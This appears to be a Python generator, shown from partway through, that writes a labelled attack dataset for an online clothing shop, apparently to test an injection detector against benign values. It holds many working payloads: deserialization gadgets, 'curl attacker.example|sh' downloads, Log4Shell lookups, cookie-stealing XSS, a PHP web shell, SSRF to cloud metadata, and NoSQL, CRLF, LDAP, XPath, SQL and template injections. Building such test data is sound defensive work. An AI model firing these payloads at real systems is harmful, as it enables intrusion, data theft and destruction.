    ("import-yaml-deser", "!!python/object/apply:os.system [\"curl attacker.example/y|sh\"]"),
    ("import-yaml-deser", "sku: TSH-RED-XL\nprice: !!python/object/apply:subprocess.check_output [[\"id\"]]"),
    ("import-yaml-deser", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("session-pickle-deser", "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("session-pickle-deser", "cos\nsystem\n(S'id'\ntR."),
    ("cart-java-deser", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0"),
    ("cart-php-deser", "O:8:\"Exporter\":1:{s:4:\"path\";s:27:\"/var/www/html/static/x.php\";}"),
    ("cart-php-deser", "a:1:{i:0;O:17:\"ImageResizeHelper\":1:{s:3:\"cmd\";s:2:\"id\";}}"),
    ("cart-dotnet-deser", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("cart-jackson-deser", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}]"),
    ("cart-fastjson-deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.30:1099/x\",\"autoCommit\":true}"),
    ("price-formula-eval", "__import__('os').system('id')"),
    ("price-formula-eval", "49.99+eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("discount-expr-node", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("discount-expr-node", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("discount-expr-php", "<?php system($_GET['c']); ?>"),
    ("discount-expr-php", "phpinfo();//"),
    ("plain-ssti", "{{7*'7'}}{{config}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto", "__proto__[admin]=true"),
    ("plain-el", "${7*7}#{7*7}"),
    ("plain-csv", "=1+2;=cmd|'/c calc'!A1"),
]

# --------------------------------------------------------------------- nosqli
LIT["nosqli"] = [
    ("login-json-ne", "{\"email\":\"buyer@shop.example\",\"password\":{\"$ne\":null}}"),
    ("login-json-gt", "{\"username\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}"),
    ("login-query-ne", "username=admin&password[$ne]=x"),
    ("login-query-regex", "username[$regex]=^adm&password[$ne]=1"),
    ("filter-size-in", "{\"size\":{\"$in\":[\"S\",\"M\"]},\"$or\":[{\"hidden\":true},{\"hidden\":false}]}"),
    ("filter-colour-where", "{\"$where\":\"this.colour=='sage' || sleep(5000)\"}"),
    ("filter-colour-where", "sage'; return true; var x='"),
    ("filter-colour-where", "'; while(true){}; '"),
    ("search-regex-dos", "{\"title\":{\"$regex\":\"^(a+)+$\"}}"),
    ("sku-lookup-ne", "{\"sku\":{\"$ne\":\"TSH-RED-XL\"}}"),
    ("sku-lookup-regex-extract", "{\"resetToken\":{\"$regex\":\"^a\"}}"),
    ("sku-lookup-exists", "sku[$exists]=true&draft[$exists]=true"),
    ("review-update-set", "{\"$set\":{\"role\":\"admin\"}}"),
    ("order-lookup-expr", "{\"$expr\":{\"$function\":{\"body\":\"function(){sleep(4000);return true}\",\"args\":[],\"lang\":\"js\"}}}"),
    ("order-lookup-lookup", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}]"),
    ("coupon-nin", "{\"code\":{\"$nin\":[]}}"),
    ("coupon-query+urlenc", "code%5B%24ne%5D=WELCOME10"),
    ("coupon-query+dblurlenc", "code%255B%2524gt%255D="),
    ("stock-couchdb-selector", "{\"selector\":{\"_id\":{\"$gt\":null}},\"fields\":[\"password\"]}"),
    ("stock-mapreduce", "function(){ return db.getCollectionNames(); }"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-where", "{\"$where\": \"1==1\"}"),
]

# --------------------------------------------------------------------- crlf
LIT["crlf"] = [
    ("review-title-log-forge", "Lovely dress\n2024-05-14 10:22:01 INFO user=admin action=refund_approved order=88213"),
    ("review-title-log-forge", "Runs small\r\n[WARN] payment gateway key rotated by admin@shop.example"),
    ("return-reason-log-forge", "Too small\n127.0.0.1 - - [14/May/2024:10:22:01 +0000] \"GET /admin/export HTTP/1.1\" 200 5120"),
    ("sku-log-forge+urlenc", "TSH-RED-XL%0d%0aINFO%20login%20success%20user=admin"),
    ("search-log-forge+unicode", "coat\u2028ERROR stock sync disabled by admin"),
    ("download-filename-header", "size-chart.pdf\r\nSet-Cookie: session=attacker123; Path=/"),
    ("download-filename-header", "lookbook.zip\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-url-header+urlenc", "/collections/summer%0d%0aLocation:%20https://attacker.example/"),
    ("redirect-url-header+urlenc", "/cart%0D%0ASet-Cookie:%20csrftoken=fixed%0D%0A"),
    ("redirect-url-header+dblurlenc", "/checkout%250d%250aX-Injected:%2520yes"),
    ("redirect-url-header+unicode", "/sale%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("locale-header", "fr-FR\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("cache-tag-header", "aw24-lookbook\nX-Accel-Redirect: /internal/backup.sql"),
    ("contact-subject-mail", "Return request #88213\r\nBcc: list@attacker.example"),
    ("contact-subject-mail", "Sizing question\nCc: everyone@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example>Refund here</a>"),
    ("contact-email-mail", "buyer@shop.example\r\nBcc: spam1@attacker.example,spam2@attacker.example"),
    ("contact-email-mail", "anna@shop.example%0ABcc:x@attacker.example"),
    ("supplier-name-mail", "Textil SA\r\nReply-To: billing@attacker.example"),
    ("newsletter-name-mail", "Sofía\r\nSubject: Your account is locked\r\n\r\nClick https://attacker.example/login"),
    ("smtp-rcpt-inject", "buyer@shop.example>\r\nRCPT TO:<victim@attacker.example"),
    ("csv-row-inject", "Sage\r\nTSH-FAKE-01,0.01,9999"),
    ("webhook-header-value", "Bearer x\r\nX-Forwarded-For: 127.0.0.1"),
    ("http-split-host", "shop.example\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    ("redis-key-inject", "cart:88213\r\nFLUSHALL\r\n"),
    ("memcache-key-inject", "sku_TSH\r\nset admin 0 0 1\r\n1"),
    ("plain-crlf", "%0d%0aSet-Cookie:%20a=b"),
    ("plain-crlf", "x\r\nX-Test: injected"),
    ("plain-header", "%0d%0aLocation:%20//attacker.example"),
    ("plain-log", "ok\nERROR admin logged in"),
]

# --------------------------------------------------------------------- ldap-xpath
LIT["ldap-xpath"] = [
    ("supplier-directory-ldap-wildcard", "*"),
    ("supplier-directory-ldap-or", "*)(|(uid=*"),
    ("supplier-directory-ldap-close", "Textil SA)(objectClass=*))(|(cn=*"),
    ("staff-login-ldap-bypass", "admin)(&)"),
    ("staff-login-ldap-bypass", "admin)(|(password=*))"),
    ("staff-login-ldap-blind", "merch*)(userPassword=a*"),
    ("staff-login-ldap-attr", "*)(memberOf=cn=admins,ou=groups,dc=shop,dc=example"),
    ("staff-login-ldap+hexenc", "\\2a\\29\\28uid\\3d\\2a"),
    ("staff-login-ldap+urlenc", "admin%29%28%7C%28objectClass%3D%2A%29%29"),
    ("buyer-group-ldap-null", "buyers)(%00"),
    ("catalog-xml-xpath-tautology", "' or '1'='1"),
    ("catalog-xml-xpath-tautology", "TSH-RED-XL' or 1=1 or 'a'='a"),
    ("catalog-xml-xpath-union", "x'] | //user/password | //product[sku='x"),
    ("catalog-xml-xpath-blind", "TSH' and substring(//user[1]/password,1,1)='s' and 'a'='a"),
    ("catalog-xml-xpath-blind", "' or string-length(name(/*[1]))=7 or '"),
    ("catalog-xml-xpath-count", "x' or count(//supplier)>0 or 'x'='y"),
    ("size-chart-xpath-numeric", "38 or 1=1"),
    ("size-chart-xpath-doc", "1] | document('/etc/passwd') | //size[1"),
    ("size-chart-xquery", "EU38\"] return doc(\"file:///etc/passwd\") (:"),
    ("plain-ldap", "*)(uid=*))(|(uid=*"),
    ("plain-xpath", "' or ''='"),
]

# --------------------------------------------------------------------- templates
SKUS = ["TSH-RED-XL", "DRS-SGE-38", "JNS-IND-W32L34", "CAP-OS-NVY", "PRK-KHK-L", "SWM-TER-36",
        "KNT-CRM-M", "BLZ-LIN-50", "SNK-OWH-42", "SCF-SLK-90"]
TITLES = ["Wrap Dress", "Harbour Shirt", "Linen Blazer", "Cargo Pants", "Trench Coat",
          "Puffer Vest", "Satin Slip Skirt", "Mom Jeans"]
SQL_TAILS = [("tautology", "' OR 'x'='x'-- -"), ("union", "' UNION SELECT NULL,email,pw_hash FROM customers-- -"),
             ("time", "' AND SLEEP(7)-- -"), ("stacked", "'; DELETE FROM stock;--"),
             ("boolean", "' AND (SELECT COUNT(*) FROM admin_users)>0-- -")]
XSS_TAILS = [("img-onerror", "<img src=q onerror=alert(document.cookie)>"),
             ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
             ("script", "<script>alert(document.domain)</script>"),
             ("iframe", "<iframe srcdoc='<script>alert(1)</script>'>")]
CMD_TAILS = [("semicolon", "; cat /etc/passwd"), ("subshell", "$(curl attacker.example/s|sh)"),
             ("pipe", "| id"), ("backtick", "`sleep 8`"), ("and", " && wget 203.0.113.50/x")]
TRAV_DIRS = ["lookbook/aw24", "charts/eu", "techpacks/PO-0387", "labels/care", "swatches"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "app/.env", "root/.bash_history"]
SSRF_HOSTS = ["169.254.169.254/latest/meta-data/", "127.0.0.1:8080/admin", "localhost:9000/minio/admin",
              "10.0.0.5:5432/", "[::1]:6379/"]
SSRF_FIELDS = ["image-import-url", "supplier-feed-url", "webhook-url"]
SSTI = [("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}"),
        ("log4shell", "${jndi:ldap://attacker.example/{n}}"),
        ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
        ("csv-formula", "=HYPERLINK(\"http://attacker.example/{n}\",\"click\")")]


def t_sqli(r):
    tech, tail = r.choice(SQL_TAILS)
    ctx, base = r.choice([("sku", r.choice(SKUS)), ("title", r.choice(TITLES))])
    return f"{ctx}-{tech}", base + tail


def t_xss(r):
    tech, tail = r.choice(XSS_TAILS)
    ctx = r.choice(["review", "caption", "title"])
    return f"{ctx}-{tech}", f"{r.choice(TITLES)} {tail}"


def t_cmdi(r):
    tech, tail = r.choice(CMD_TAILS)
    return f"sku-barcode-label-{tech}", r.choice(SKUS) + tail


def t_trav(r):
    d = r.choice(TRAV_DIRS)
    depth = r.randint(3, 7)
    return "lookbook-image-dotdot", f"{d}/{'../' * depth}{r.choice(TRAV_TARGETS)}"


def t_ssrf(r):
    return r.choice(SSRF_FIELDS), f"http://{r.choice(SSRF_HOSTS)}?sku={r.choice(SKUS)}"


def t_code(r):
    tech, tail = r.choice(SSTI)
    return f"description-{tech}", f"{r.choice(TITLES)}: " + tail.replace("{n}", str(r.randint(1, 999)))


def t_nosqli(r):
    op = r.choice(["$ne", "$gt", "$regex", "$exists"])
    val = {"$ne": "null", "$gt": "\"\"", "$regex": "\".*\"", "$exists": "true"}[op]
    return "filter-operator", f"{{\"sku\":\"{r.choice(SKUS)}\",\"price\":{{\"{op}\":{val}}}}}"


def t_crlf(r):
    return "review-title-log-forge", f"{r.choice(TITLES)}\nINFO refund approved order={r.randint(10000, 99999)}"


def t_ldap(r):
    return "supplier-directory-ldap-or", f"{r.choice(['Textil', 'Nordic', 'Lino', 'Seta'])}*)(|(cn=*"


PLAN = [  # category, template, number of generated values
    ("sqli", t_sqli, 12), ("xss", t_xss, 10), ("cmdi", t_cmdi, 10), ("traversal", t_trav, 6),
    ("ssrf", t_ssrf, 6), ("code", t_code, 4), ("nosqli", t_nosqli, 4), ("crlf", t_crlf, 3),
    ("ldap-xpath", t_ldap, 2),
]


def main():
    r = random.Random(SEED)
    bench = set()
    bpath = Path(__file__).with_name("benign.jsonl")
    if bpath.exists():
        with open(bpath, encoding="utf-8") as f:
            bench = {json.loads(line)["value"] for line in f}
    rows, seen, stats, nlit = [], set(), {}, 0
    for cat, fn, ngen in PLAN:
        lits = 0
        for cls, v in LIT[cat]:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            lits += 1
        made, tries = 0, 0
        while made < ngen:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"cannot fill {cat}")
            cls, v = fn(r)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats[cat] = (lits + made, lits)
        nlit += lits
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        assert v not in bench, v
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    for cat, (n, l) in stats.items():
        print(f"{cat:12s} {n:4d}  literals {l}")
    print(f"total {len(out)}  literals {nlit} ({100 * nlit / len(out):.1f}%)")


if __name__ == "__main__":
    main()
